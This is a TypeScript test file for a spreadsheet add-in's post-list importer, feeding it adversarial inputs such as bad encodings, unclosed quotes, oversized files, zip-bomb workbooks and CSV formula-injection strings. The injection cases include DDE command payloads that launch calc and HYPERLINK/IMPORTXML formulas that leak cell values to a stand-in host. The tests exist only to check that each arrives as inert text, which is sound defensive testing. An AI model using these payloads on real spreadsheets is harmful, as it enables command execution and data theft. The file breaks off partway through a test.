/**
 * Adversarial post-list files (issue 5, "Hardening"): each file is generated here, then read the
 * way the task pane reads it (bytes → text → grid → import, or bytes → .xlsx → grid → import).
 * Each must end in a clear message (a RuleError saying what to do, or rejected rows whose message
 * does) or a correct import; and whatever is accepted is written through importPlan + writePlan
 * into the fake Excel, where every text from the file must arrive as the same text (format "@",
 * no formula) and the only formulas are the add-in's own. No timing assertions: a case that
 * finished has not frozen the pane; how fast it is belongs to the benchmark.
 */
import assert from "node:assert/strict";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { RuleError } from "../../src/core/errors";
import {
  type ColumnMapping,
  type Grid,
  type PostListImport,
  EXCEL_CELL_TEXT,
  MAX_COLUMNS,
  cellText,
  decodeText,
  importPostList,
  proposeMapping,
  readDelimitedText,
  readWorkbook,
} from "../../src/postlist/index";
import { type ImportPlan, SHEET, columnLetter, importPlan, plannedPost, rejectedRecords } from "../../src/workbook/index";
import type { WorkbookPlan } from "../../src/workbook/plan";
import { listShape, readChosenFile } from "../../src/taskpane/import/postList";
import { batchesOf, blockBytes, MAX_REQUEST_BYTES } from "../../src/excel/batches";
import { FakeExcel } from "../support/fakeExcel";
import { GENERATED_HEADER, OCC_CDC, generatedPostListCsv, generatedRow, random } from "../support/generatedPostList";
import { deflatedEntry, zipBytes } from "../support/zipBytes";
import { planInHyperFormula, valueAt } from "../support/planInHyperFormula";

// ---------------------------------------------------------------------------------------------
// Reading and judging an outcome

const utf8 = (text: string) => new Uint8Array(Buffer.from(text, "utf8"));

/** CSV quoting: a cell with a delimiter, quote, line break or leading space is quoted. */
function q(cell: string, delimiter = ","): string {
  return cell.includes(delimiter) || /["\r\n]/.test(cell) || /^\s/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
}
function csvLine(cells: readonly string[], delimiter = ","): string {
  return cells.map((c) => q(c, delimiter)).join(delimiter);
}

/** A message that says what is wrong and what to do, in a sentence a person can read. */
function assertClear(message: string): void {
  assert.ok(message.length >= 20 && message.length <= 2_000, `message of ${message.length} characters: ${message.slice(0, 200)}`);
  assert.doesNotMatch(message, /undefined|\[object|NaN|Infinity|TypeError|RangeError|at .*\.ts:\d/);
  assert.match(message, /\b(give|write|save|remove|choose|import|open|shorten|close|use|map|correct|split|clear|copy|check|leave|mark|rename|needs?)\b/i, `no advice in: ${message}`);
}

/** Runs a step that must either succeed or throw a RuleError with a clear message. */
function outcome<T>(step: () => T): { ok: true; value: T } | { ok: false; error: RuleError } {
  try {
    return { ok: true, value: step() };
  } catch (e) {
    assert.ok(e instanceof RuleError, `a ${e instanceof Error ? e.name : typeof e} escaped: ${e instanceof Error ? e.message : String(e)}`);
    assertClear(e.message);
    return { ok: false, error: e };
  }
}
async function outcomeAsync<T>(step: () => Promise<T>): Promise<{ ok: true; value: T } | { ok: false; error: RuleError }> {
  try {
    return { ok: true, value: await step() };
  } catch (e) {
    assert.ok(e instanceof RuleError, `a ${e instanceof Error ? e.name : typeof e} escaped: ${e instanceof Error ? e.message : String(e)}`);
    assertClear(e.message);
    return { ok: false, error: e };
  }
}
function refused(step: () => unknown, pattern: RegExp): RuleError {
  const o = outcome(step);
  assert.ok(!o.ok, "expected a clear refusal, got an import");
  assert.match(o.error.message, pattern);
  return o.error;
}
async function refusedAsync(step: () => Promise<unknown>, pattern: RegExp): Promise<RuleError> {
  const o = await outcomeAsync(step);
  assert.ok(!o.ok, "expected a clear refusal, got an import");
  assert.match(o.error.message, pattern);
  return o.error;
}

interface Imported {
  grid: Grid;
  result: PostListImport;
  source: string;
  mapping?: ColumnMapping;
}

/** Bytes as the task pane reads a delimited file: decode, read, check, cost. */
function importBytes(bytes: Uint8Array, source = "posts.csv", mapping?: ColumnMapping): Imported {
  const o = outcome(() => {
    const grid = readDelimitedText(decodeText(bytes));
    return { grid, result: importPostList(grid, OCC_CDC, { source, ...(mapping ? { mapping } : {}) }), source, mapping };
  });
  if (!o.ok) throw o.error;
  checkRejections(o.value.result);
  return o.value;
}
const importText = (text: string, source?: string, mapping?: ColumnMapping) => importBytes(utf8(text), source, mapping);

/** Every rejected row says where and what to do. */
function checkRejections(result: PostListImport): void {
  for (const p of result.validation.rejected) {
    assert.ok(p.row >= 1, `problem without a row: ${p.message}`);
    assertClear(p.message);
  }
}

// ---------------------------------------------------------------------------------------------
// Writing what was accepted, and checking the workbook

/** Every string of the plan fits in an Excel cell (Excel refuses longer text). */
function assertFitsExcel(plan: WorkbookPlan): void {
  for (const sheet of plan.sheets) {
    for (const block of sheet.blocks) {
      for (const row of block.values ?? []) {
        for (const v of row) if (typeof v === "string") assert.ok(v.length <= EXCEL_CELL_TEXT, `${sheet.name} ${block.address}: text of ${v.length} characters`);
      }
    }
  }
}

function planFor(imported: Imported): ImportPlan {
  const { grid, result, source } = imported;
  return importPlan({
    partnership: OCC_CDC,
    posts: result.validation.posts.map(plannedPost),
    rejected: rejectedRecords(result.validation.rejected, new Map([[source, { grid, firstRowNumber: 1 }]])),
    sourceHeaders: result.validation.lists[0]?.headers ?? [],
    includePartnership: true,
  });
}

async function writeToFake(plan: WorkbookPlan, fake = new FakeExcel(), options = {}): Promise<FakeExcel> {
  (globalThis as Record<string, unknown>).Excel = fake.global();
  const { writePlan } = await import("../../src/excel/writePlan");
  await writePlan(plan, options);
  return fake;
}

/**
 * Writes the import into a fresh fake Excel and checks it: each accepted post's text exactly as
 * read (title as in the file, id and status trimmed, as the README says), as Text, no formula;
 * no formula in the Posts input columns or anywhere on the issues sheet; the rejected rows' cells
 * on the issues sheet as in the file; every formula in the workbook one of the add-in's own.
 */
async function writeAndCheck(imported: Imported): Promise<FakeExcel> {
  const built = planFor(imported);
  assertFitsExcel(built.plan);
  const fake = await writeToFake(built.plan);
  const l = built.posts;
  const posts = imported.result.validation.posts;
  const textColumns: [number, (i: number) => string | null][] = [
    [l.id, (i) => posts[i].id],
    [l.post, (i) => posts[i].title],
    [l.home, (i) => posts[i].home],
    [l.joint, (i) => (posts[i].joint ? "Y" : "N")],
    [l.status, (i) => posts[i].status],
    [l.source, () => imported.source],
  ];
  for (let i = 0; i < posts.length; i++) {
    const row = l.firstDataRow + i;
    for (const [column, expected] of textColumns) {
      const a1 = `${columnLetter(column)}${row}`;
      const cell = fake.cell(SHEET.posts, a1);
      assert.equal(cell.formula, undefined, `${SHEET.posts}!${a1} became a formula`);
      assert.equal(cell.numberFormat, "@", `${SHEET.posts}!${a1} is not formatted as text`);
      assert.equal(cell.value, expected(i), `${SHEET.posts}!${a1}`);
    }
  }
  // No formula in the input columns (1..lastInput) or on the issues sheet; the rest the add-in's own.
  const inputColumns = new Set(Array.from({ length: l.lastInput }, (_, c) => columnLetter(c + 1)));
  const planned = new Set(built.plan.sheets.flatMap((s) => s.blocks.flatMap((b) => b.formulas?.flat() ?? [])));
  for (const sheet of fake.liveSheets()) {
    for (const [a1, cell] of sheet.cells) {
      if (cell.formula === undefined) continue;
      assert.notEqual(sheet.name, SHEET.issues, `${SHEET.issues}!${a1} holds a formula: ${cell.formula}`);
      if (sheet.name === SHEET.posts) assert.ok(!inputColumns.has(/^[A-Z]+/.exec(a1)![0]), `${SHEET.posts}!${a1} (an input column) holds a formula: ${cell.formula}`);
      assert.ok(planned.has(cell.formula), `${sheet.name}!${a1} holds a formula the add-in did not write: ${cell.formula}`);
    }
  }
  // Rejected rows keep their cells, as text, on the issues sheet (one line per problem).
  const { grid, result } = imported;
  const headers = result.validation.lists[0]?.headers ?? [];
  let line = 2;
  const byRow = new Map<number, number>();
  for (const p of result.validation.rejected) byRow.set(p.row, (byRow.get(p.row) ?? 0) + 1);
  for (const [row, problems] of byRow) {
    const source = grid[row - 1];
    for (let k = 0; k < problems; k++, line++) {
      assert.equal(fake.cell(SHEET.issues, `B${line}`).value, String(row));
      for (let c = 0; c < headers.length; c++) {
        const cell = fake.cell(SHEET.issues, `${columnLetter(5 + c)}${line}`);
        const text = cellText(source[c] ?? null);
        assert.equal(cell.numberFormat, "@");
        assert.equal(cell.formula, undefined);
        if (text.length <= EXCEL_CELL_TEXT) assert.equal(cell.value, text, `${SHEET.issues}!${columnLetter(5 + c)}${line}`);
        else assert.match(String(cell.value), /cut: [\d,]+ characters\)$/);
      }
    }
  }
  return fake;
}

// ---------------------------------------------------------------------------------------------

const HEADER = ["Post ID", "Post", "Home authority", "Joint", "Split", "Salary", "FTE", "Start", "End", "Status"];

describe("adversarial post lists", function () {
  this.timeout(120_000);

  describe("empty and header-only files", () => {
    it("an empty file (0 bytes) or one of blank lines says it is empty", async () => {
      for (const text of ["", "\r\n\r\n", " \n\t\n,,,\n , \n"]) {
        refused(() => importText(text), /is empty: it needs a header row/);
      }
      await refusedAsync(() => readChosenFile(new File([], "posts.csv")), /posts\.csv is empty \(0 bytes\)/);
      await refusedAsync(() => readChosenFile(new File(["\r\n\r\n"], "posts.csv")), /is empty: a post list needs a header row/);
    });

    it("a header only is read as a list of no posts (the pane then offers nothing to write)", () => {
      for (const text of [csvLine(HEADER), `${csvLine(HEADER)}\r\n`, `${csvLine(HEADER)}\r\n\r\n,,,\r\n`]) {
        const { grid, result } = importText(text);
        assert.equal(result.validation.posts.length, 0);
        assert.equal(result.validation.rejected.length, 0);
        assert.deepEqual(result.validation.lists[0].headers, HEADER);
        assert.equal(listShape({ grid, firstRowNumber: 1, source: "posts.csv" }, OCC_CDC.authorities).records, 0);
      }
    });
  });

  describe("encodings", () => {
    // As Excel's "Unicode Text" writes it: tab separated, UTF-16.
    const text = [
      csvLine(HEADER, "\t"),
      csvLine(["JW-1", "Café and Résidence Manager", "Cherwell District Council", "Y", "60/40", "£85,000", "1", "01/10/2019", "", "Permanent"], "\t"),
      csvLine(["JW-2", "Directeur Général, £ and é", "OCC", "N", "", "£120,500.50", "0.5", "", "", "Intérim"], "\t"),
    ].join("\r\n") + "\r\n";
    const expectAccents = (imported: Imported) => {
      const [a, b] = imported.result.validation.posts;
      assert.equal(imported.result.validation.rejected.length, 0, JSON.stringify(imported.result.validation.rejected));
      assert.equal(a.title, "Café and Résidence Manager");
      assert.equal(a.home, "CDC");
      assert.equal(a.salary, 85000);
      assert.deepEqual(a.shares, [0.6, 0.4]);
      assert.equal(b.title, "Directeur Général, £ and é");
      assert.equal(b.salary, 120500.5);
      assert.equal(b.status, "Intérim");
    };
    const le = Buffer.from(text, "utf16le");
    const be = Buffer.from(le).swap16();

    it("UTF-16 LE and BE with a byte-order mark", async () => {
      for (const bytes of [Buffer.concat([Buffer.from([0xff, 0xfe]), le]), Buffer.concat([Buffer.from([0xfe, 0xff]), be])]) {
        const imported = importBytes(new Uint8Array(bytes));
        expectAccents(imported);
        assert.equal(imported.grid[0][0], "Post ID", "the byte-order mark is not part of the first header");
        await writeAndCheck(imported);
      }
    });

    it("UTF-16 without a byte-order mark", () => {
      expectAccents(importBytes(new Uint8Array(le)));
      expectAccents(importBytes(new Uint8Array(be)));
    });

    it("Windows-1252 (£ and é as one byte each)", async () => {
      const bytes = new Uint8Array(Buffer.from(text, "latin1"));
      assert.ok(bytes.includes(0xa3) && bytes.includes(0xe9));
      const imported = importBytes(bytes);
      expectAccents(imported);
      await writeAndCheck(imported);
    });

    it("UTF-8 with a byte-order mark, and without", () => {
      const withBom = importBytes(new Uint8Array(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, "utf8")])));
      expectAccents(withBom);
      assert.equal(withBom.grid[0][0], "Post ID");
      expectAccents(importBytes(utf8(text)));
      // A byte-order mark left in pasted text is dropped too.
      expectAccents(importText(`\ufeff${text}`));
    });

    it("a text file with a stray control character (an old DOS end-of-file mark) is still read", () => {
      const imported = importText(`${text}\u001a`);
      assert.equal(imported.result.validation.posts.length, 2);
    });
  });

  describe("line endings and quoting", () => {
    const rows = [
      ["JW-1", "Chief Executive", "CDC", "Y", "50/50", "190000", "1", "", "", "Permanent"],
      ["JW-2", "Monitoring Officer", "OCC", "Y", "60:40", "£110,000", "1", "", "", "Interim"],
      ["JW-3", "Assistant Director\r\nRegulatory Services", "OCC", "Y", "50%/50%", "85000", "1", "", "", "Permanent"],
      ["JW-4", "Head of Finance\nShared", "CDC", "N", "", "70000", "1", "", "", "Permanent"],
      ["JW-5", "Head of Legal\rShared", "OCC", "N", "", "72000", "1", "", "", "Permanent"],
      ["JW-6", "Head of HR", "OCC", "Y", "0.7", "65000", "1", "", "", "Permanent"],
    ];

    it("mixed \\r\\n, \\n and \\r between records; line breaks inside quoted cells kept as written", async () => {
      const ends = ["\r\n", "\n", "\r", "\n", "\r\n", "\r", "\r\n"];
      let text = csvLine(HEADER);
      rows.forEach((row, i) => (text += ends[i] + csvLine(row)));
      text += ends[rows.length];
      const imported = importText(text);
      assert.equal(imported.result.validation.rejected.length, 0, JSON.stringify(imported.result.validation.rejected));
      assert.deepEqual(imported.result.validation.posts.map((p) => [p.row, p.id, p.title, p.salary]), rows.map((r, i) => [i + 2, r[0], r[1], Number(r[5].replace(/[£,]/g, ""))]));
      assert.deepEqual(imported.grid.map((r) => r.length), [HEADER.length, ...rows.map(() => HEADER.length)]);
      await writeAndCheck(imported);
    });

    it("any grid, written with any mix of record ends, reads back cell for cell (property)", () => {
      const cellChars = fc.constantFrom("a", "B", "1", " ", ",", ";", "\t", '"', "\r", "\n", "=", "£", "é");
      const cell = fc.string({ unit: cellChars, minLength: 1, maxLength: 8 });
      const grid = fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 12 });
      const ends = fc.array(fc.constantFrom("\r\n", "\n", "\r"), { minLength: 13, maxLength: 13 });
      const quoted = (c: string) => (/[,;\t"\r\n]|^\s/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
      fc.assert(
        fc.property(grid, ends, (rows, endings) => {
          const text = rows.map((r, i) => r.map(quoted).join(",") + endings[i]).join("");
          // (The delimiter is given: detection can be misled by ragged rows whose only ";" are quoted.)
          assert.deepEqual(readDelimitedText(text, { delimiter: "," }), rows);
        }),
        { numRuns: 500 },
      );
    });

    it("\\r alone throughout (classic Mac) and \\r\\n throughout read the same", () => {
      for (const end of ["\r", "\r\n", "\n"]) {
        const imported = importText([csvLine(HEADER), ...rows.map((r) => csvLine(r))].join(end) + end);
        assert.deepEqual(imported.result.validation.posts.map((p) => p.title), rows.map((r) => r[1]));
      }
    });

    it("quoted cells holding the delimiter, quotes, tabs and line breaks, in comma, semicolon and tab files", async () => {
      const title = 'Head of Legal, HR; and "Democratic"\tServices\r\n(shared)';
      for (const delimiter of [",", ";", "\t"]) {
        const text = [csvLine(HEADER, delimiter), csvLine(["JW-1", title, "OCC", "Y", "50/50", "£85,000", "1", "", "", "Permanent"], delimiter)].join("\r\n");
        const imported = importText(text);
        assert.equal(imported.result.validation.rejected.length, 0, `${JSON.stringify(delimiter)}: ${JSON.stringify(imported.result.validation.rejected)}`);
        assert.equal(imported.result.validation.posts[0].title, title);
        assert.equal(imported.result.validation.posts[0].salary, 85000);
        await writeAndCheck(imported);
      }
    });

    it("a quote left open says where, instead of running the rest of the file into one cell", () => {
      refused(() => importText(`${csvLine(HEADER)}\r\nJW-1,"Chief Executive,CDC,Y,50/50,190000\r\nJW-2,B,OCC,N,,1000\r\n`), /Record 2 opens a quoted cell .* never closed/);
    });
  });

  describe("size", () => {
    it("50,000 columns with text in the last: refused, naming the column (at most 1,000 read)", () => {
      const extra = Array.from({ length: 50_000 - HEADER.length }, (_, i) => `Extra ${i + 1}`);
      refused(() => importText(`${csvLine([...HEADER, ...extra])}\r\nJW-1,A,OCC,N,,1000\r\n`), /Row 1 has text in column 50,000: a post list is read from at most 1,000 columns/);
      // Text far out in a data row only.
      const far = new Array(50_000).fill("");
      far[0] = "JW-1";
      far[49_999] = "stray";
      refused(() => importText(`${csvLine(HEADER)}\r\n${far.join(",")}\r\n`), /Row 2 has text in column 50,000/);
      assert.equal(MAX_COLUMNS, 1_000);
    });

    it("50,000 columns of which only the list's are filled (an export's trailing delimiters): imported", async () => {
      const tail = ",".repeat(50_000 - HEADER.length);
      const lines = [csvLine(HEADER) + tail, ...Array.from({ length: 20 }, (_, i) => csvLine([`JW-${i}`, `Post ${i}`, "OCC", "N", "", "50000", "1", "", "", "Permanent"]) + tail)];
      const imported = importText(lines.join("\r\n"));
      assert.equal(imported.result.validation.posts.length, 20);
      assert.ok(imported.grid.every((row) => row.length === HEADER.length), "the empty columns beyond the list are dropped");
      await writeAndCheck(imported);
    });

    it("a 20 MB file of ordinary rows (about 200,000 posts): refused at once, saying the most read", () => {
      const text = generatedPostListCsv(200_000);
      assert.ok(text.length > 19_000_000 && text.length < 22_000_000, `${text.length} characters`);
      refused(() => importBytes(utf8(text)), /more than 100,001 lines: a post list is read from at most 100,000 rows under its header row/);
    });

    it("a 20 MB file of 20,000 posts with long notes: imported, every text exact, rejected rows kept", async () => {
      const rnd = random(7);
      const notes = (i: number) => `${i % 50 === 0 ? "=HYPERLINK(\"http://example.invalid\",\"x\") " : ""}Agreed at JSC ${i}; review, "annually"\n${"lorem ipsum, dolor ".repeat(48)}`;
      const lines = [`${GENERATED_HEADER.join(",")},Notes`];
      for (let i = 0; i < 20_000; i++) {
        let row = generatedRow(i, rnd);
        if (i % 100 === 3) row = row.replace(/,(OCC|CDC|Cherwell District Council),/, ",=cmd|' /C calc'!A0,"); // rejected: not an authority
        lines.push(`${row},${q(notes(i))}`);
      }
      const text = lines.join("\r\n") + "\r\n";
      assert.ok(text.length > 19_000_000 && text.length < 22_000_000, `${text.length} characters`);
      const imported = importBytes(utf8(text), "big.csv");
      assert.equal(imported.result.validation.posts.length, 19_800);
      assert.equal(new Set(imported.result.validation.rejected.map((p) => p.row)).size, 200);
      for (const p of imported.result.validation.rejected) assert.match(p.message, /"=cmd\|' \/C calc'!A0" is not an authority of this partnership: use one of OCC/);
      await writeAndCheck(imported);
    });

    it("a 20 MB file whose second line opens a quote it never closes: refused, the records after it not run into one cell", () => {
      // The parser would close the cell at the next quote in the file (a "£85,000" a few lines on), silently
      // taking the records in between into the title.
      const text = `${csvLine(HEADER)}\r\nJW-1,"Chief Executive,CDC,Y,50/50,190000\r\n` + generatedPostListCsv(195_000).slice(200);
      assert.ok(text.length > 19_000_000);
      refused(() => importBytes(utf8(text)), /^Record 2 has a quoted cell whose closing quote \(\"\) is followed by more text/);
      refused(() => importText(`${csvLine(HEADER)}\r\nJW-1,"Chief" Executive,CDC,Y,50/50,"190,000"\r\n`), /^Record 2 has a quoted cell/);
    });

    it("a cell longer than Excel holds (40,000 characters): the row is rejected, and kept, cut, on the issues sheet", async () => {
      const long = `Chief Executive ${"x".repeat(40_000)}`;
      const text = [csvLine(HEADER), csvLine(["JW-1", long, "CDC", "Y", "50/50", "190000", "1", "", "", "Permanent"]), csvLine(["JW-2", "Monitoring Officer", "OCC", "N", "", "110000", "1", "", "", "Permanent"])].join("\r\n");
      const imported = importText(text);
      assert.deepEqual(imported.result.validation.posts.map((p) => p.id), ["JW-2"]);
      const [problem] = imported.result.validation.rejected;
      assert.match(problem.message, /^Post is 40,016 characters long: an Excel cell holds at most 32,767\. Shorten it/);
      const fake = await writeAndCheck(imported);
      const kept = String(fake.cell(SHEET.issues, `${columnLetter(5 + 1)}2`).value);
      assert.equal(kept.length, EXCEL_CELL_TEXT);
      assert.ok(kept.startsWith("Chief Executive xxx") && kept.endsWith("(cut: 40,016 characters)"));
      // A message quoting a long cell quotes its start and gives its length.
      const home = importText([csvLine(HEADER), csvLine(["JW-1", "A", "O".repeat(5_000), "N", "", "1000"])].join("\n"));
      assert.match(home.result.validation.rejected[0].message, /^Home authority "O{60}…" \(5,000 characters\) is not an authority/);
    });
  });

  describe("files that are not what they are named", () => {
    const garbage = (length: number, seed: number) => {
      const rnd = random(seed);
      return Uint8Array.from({ length }, () => Math.floor(rnd() * 256));
    };

    it("binary garbage named .csv: refused as not a text file", async () => {
      const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...garbage(4_000, 3)]);
      const ole = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600), ...garbage(3_000, 4)]); // an old .xls
      for (const bytes of [garbage(100_000, 1), garbage(300, 2), png, ole]) {
        refused(() => importBytes(bytes), /not a text file \(it holds binary data\): save the post list from Excel as "CSV UTF-8/);
        await refusedAsync(() => readChosenFile(new File([bytes], "posts.csv")), /not a text file/);
      }
    });

    it("a real .xlsx named .csv is read as the workbook it is", async () => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet("Posts");
      ws.addRow(HEADER);
      ws.addRow(["JW-1", "Chief Executive", "CDC", "Y", "50/50", 190000, 1, null, null, "Permanent"]);
      const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
      const chosen = await readChosenFile(new File([bytes], "posts.csv"));
      assert.equal(chosen.workbook?.sheets[0], "Posts");
      assert.equal(chosen.list?.grid[1][1], "Chief Executive");
      // Read as text instead, the zip is refused as binary.
      refused(() => importBytes(bytes), /not a text file/);
    });

    it("an .xlsx that is not a zip: refused, saying how to save it", async () => {
      await refusedAsync(() => readWorkbook(utf8(`${csvLine(HEADER)}\r\nJW-1,A,OCC,N,,1000\r\n`)), /not an \.xlsx workbook \(an \.xlsx file is a zip archive\): save it from Excel/);
      await refusedAsync(() => readWorkbook(new Uint8Array(0)), /empty \(0 bytes\): choose the \.xlsx file again/);
      await refusedAsync(() => readWorkbook(Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])), /not an \.xlsx workbook.*Older \.xls files are not read/);
      await refusedAsync(() => readWorkbook(garbage(50_000, 5)), /not an \.xlsx workbook/);
      // Starts like a zip, then garbage: no directory to read.
      await refusedAsync(() => readWorkbook(Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...garbage(10_000, 6)])), /zip directory cannot be read: the file is damaged/);
      // A whole zip, but not a workbook.
      const notXlsx = zipBytes([deflatedEntry("readme.txt", utf8("not a workbook"))]);
      await refusedAsync(() => readWorkbook(notXlsx), /cannot be read|no worksheets/);
      await refusedAsync(() => readChosenFile(new File([utf8("Post,Salary\nA,1\n")], "posts.xlsx")), /not an \.xlsx workbook/);
      await refusedAsync(() => readChosenFile(new File([garbage(2_000, 8)], "posts.xls")), /old Excel 97–2003 workbook: open it in Excel and save it as \.xlsx or CSV/);
    });

    it("an .xlsx whose parts declare 250 MB unpacked (a zip bomb's shape): refused before unpacking", async () => {
      const sheet = deflatedEntry("xl/worksheets/sheet1.xml", new Uint8Array(25 * 1024 * 1024));
      assert.ok(sheet.data.length < 50_000, `${sheet.data.length} bytes deflated`);
      const bomb = zipBytes(Array.from({ length: 10 }, (_, i) => ({ ...sheet, name: `xl/worksheets/sheet${i + 1}.xml` })));
      assert.ok(bomb.length < 300_000);
      await refusedAsync(() => readWorkbook(bomb), /unpacks to 250 MB: far more than a post list/);
      await refusedAsync(() => readChosenFile(new File([bomb], "posts.xlsx")), /unpacks to 250 MB/);
      // A part declaring zip64's "see elsewhere" size (4 GB): not read.
      await refusedAsync(() => readWorkbook(zipBytes([{ ...sheet, declaredSize: 0xffffffff }])), /zip directory cannot be read/);
    });

    it("an .xlsx whose part declares 1,000 bytes but unpacks to 64 MB: refused without holding it", async () => {
      const lying = zipBytes([
        deflatedEntry("[Content_Types].xml", utf8("<Types/>")),
        deflatedEntry("xl/workbook.xml", new Uint8Array(64 * 1024 * 1024), 1_000),
      ]);
      await refusedAsync(() => readWorkbook(lying), /part xl\/workbook\.xml unpacks to more than the 1,000 bytes its zip directory declares/);
    });
  });

  describe("headers", () => {
    it("duplicate headers: the first of each is used and the others named, the rows import", async () => {
      const header = ["Post", "Post", "Home authority", "Joint", "Split", "Salary", "Salary", "Notes", "Notes"];
      const text = [csvLine(header), csvLine(["Chief Executive", "ignored", "CDC", "Y", "50/50", "190000", "999", "a", "b"]), csvLine(["Head of HR", "=1+1", "OCC", "N", "", "65000", "x", "", ""])].join("\r\n");
      const proposal = proposeMapping(header, OCC_CDC.authorities);
      assert.deepEqual(proposal.duplicates.map((d) => d.column), [1, 6]);
      assert.ok(proposal.notes.some((n) => /Column "Post" also looks like Post; the first such column is used/.test(n)));
      const imported = importText(text);
      assert.deepEqual(imported.result.validation.posts.map((p) => [p.title, p.salary]), [["Chief Executive", 190000], ["Head of HR", 65000]]);
      await writeAndCheck(imported);
    });

    it("blank headers: their columns are left out; a required one left blank asks for a mapping", async () => {
      const header = ["", "Post", "", "Home authority", "Joint", "Split", "Salary", "  "];
      const text = [csvLine(header), csvLine(["x", "Chief Executive", "=1+1", "CDC", "Y", "50/50", "190000", "@y"]), csvLine(["x", "Head of HR", "z", "SNC", "N", "", "65000", "-1"])].join("\r\n");
      const imported = importText(text);
      assert.deepEqual(imported.result.validation.posts.map((p) => p.title), ["Chief Executive"]);
      assert.equal(imported.result.validation.rejected.length, 1);
      await writeAndCheck(imported);

      const noHome = ["Post", "", "Joint", "Split", "Salary"];
      const rows = [csvLine(noHome), csvLine(["Chief Executive", "CDC", "Y", "50/50", "190000"])].join("\r\n");
      refused(() => importText(rows), /No column is mapped to Home authority, which every post needs\. Its headers are "Post", "", "Joint", "Split", "Salary"; map the columns/);
      // Mapped by hand, the blank-headed column is read.
      const mapping: ColumnMapping = { fields: { post: 0, home: 1, joint: 2, split: 3, salary: 4 }, shares: {}, baselines: {} };
      const mapped = importText(rows, "posts.csv", mapping);
      assert.deepEqual(mapped.result.validation.posts.map((p) => p.home), ["CDC"]);
      await writeAndCheck(mapped);
    });

    it("a column mapped twice, and a list of 1,000 unrecognised headers, get short messages", () => {
      const rows = [csvLine(HEADER), csvLine(["JW-1", "A", "OCC", "N", "", "1000"])].join("\r\n");
      const mapping: ColumnMapping = { fields: { post: 1, home: 1, joint: 3, salary: 5 }, shares: {}, baselines: {} };
      refused(() => importText(rows, "posts.csv", mapping), /Column "Post" is mapped to both Post and Home authority: map each column to one field/);
      const wide = Array.from({ length: 1_000 }, (_, i) => `Column ${i + 1}`);
      const e = refused(() => importText(`${csvLine(wide)}\r\n${csvLine(wide)}\r\n`), /Its headers are "Column 1", .* "Column 20" and 980 more; map the columns/);
      assert.ok(e.message.length < 1_000);
    });
  });

  describe("formula injection", () => {
    const FORMS = [
      "=1+1",
      "+1+1",
      "-1+1",
      "@SUM(1+1)",
      "\t=1+1",
      "\r=1+1",
      "\r\n=1+1",
      "=cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
      '=IMPORTXML(CONCAT("http://example.invalid/?v=",A2),"//a")',
      '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
      "=",
      "+",
      "-",
      "@",
      "-5",
      "+44 1865 000000",
      "1,234",
      "TRUE",
      "01/04/2019",
      " =1+1",
      "'=1+1",
      "＝1+1",
    ];
    const TRIMMED_ALIKE = FORMS.map((f) => f.trim());

    /** One accepted row per form: the form as the title, at the start of the id, and as the status. */
    function acceptedRows(): string[][] {
      return FORMS.map((form, i) => [`${form}#${i}`, form, i % 2 ? "OCC" : "CDC", "Y", "50/50", "50000", "1", "", "", form]);
    }
    /** Rejected rows: the form in a field that must be a code, a flag, an amount, a split or a date. */
    function rejectedRows(): string[][] {
      return FORMS.flatMap((form, i) => [
        [`H${i}`, "Home", form, "N", "", "50000"],
        [`J${i}`, "Joint", "OCC", form, "", "50000"],
        [`S${i}`, "Salary", "OCC", "N", "", form],
        [`P${i}`, "Split", "OCC", "Y", form, "50000"],
        [`D${i}`, "Start", "OCC", "N", "", "50000", "1", form],
      ]);
    }

    it("every form in the title, Post ID and Status arrives as the same text; in other fields the row is rejected and kept as text", async () => {
      const header = [...HEADER, '=HYPERLINK("http://example.invalid","Notes")'];
      const lines = [csvLine(header), ...acceptedRows().map((r) => csvLine(r)), ...rejectedRows().map((r) => csvLine(r))];
      const imported = importText(lines.join("\r\n") + "\r\n", "=cmd|' \\C calc'!A0.csv");
      const { rejected } = imported.result.validation;
      const posts = imported.result.validation.posts.filter((p) => p.row <= FORMS.length + 1);
      assert.equal(posts.length, FORMS.length, JSON.stringify(rejected.filter((p) => p.row <= FORMS.length + 1)));
      posts.forEach((p, i) => {
        assert.equal(p.title, FORMS[i], "the title is kept exactly, not trimmed or evaluated");
        assert.equal(p.id, `${TRIMMED_ALIKE[i]}#${i}`);
        assert.equal(p.status, TRIMMED_ALIKE[i] === "" ? null : TRIMMED_ALIKE[i]);
      });
      // In a field that needs a code, flag, amount, split or date, a form is rejected, or (text such as
      // "1,234" or "01/04/2019" that is a value) read as that value: never a formula.
      const rejectedRowsSet = new Set(rejected.map((p) => p.row));
      assert.ok(rejectedRowsSet.size >= FORMS.length * 4, `${rejectedRowsSet.size} rows rejected`);
      const fake = await writeAndCheck(imported);
      // The file name lands as text too, and the header on the issues sheet.
      assert.equal(fake.cell(SHEET.posts, `${columnLetter(planFor(imported).posts.source)}2`).value, "=cmd|' \\C calc'!A0.csv");
      const issuesHeader = [...fake.sheet(SHEET.issues).cells.entries()].filter(([a1]) => /^[A-Z]+1$/.test(a1)).map(([, c]) => c.value);
      assert.ok(issuesHeader.includes('File: =HYPERLINK("http://example.invalid","Notes")'));
    });

    it("a real spreadsheet engine shows the same text (text format kept)", () => {
      const imported = importText([csvLine(HEADER), ...acceptedRows().map((r) => csvLine(r))].join("\n"));
      const built = planFor(imported);
      const hf = planInHyperFormula(built.plan);
      try {
        FORMS.forEach((form, i) => {
          const a1 = `${columnLetter(built.posts.post)}${built.posts.firstDataRow + i}`;
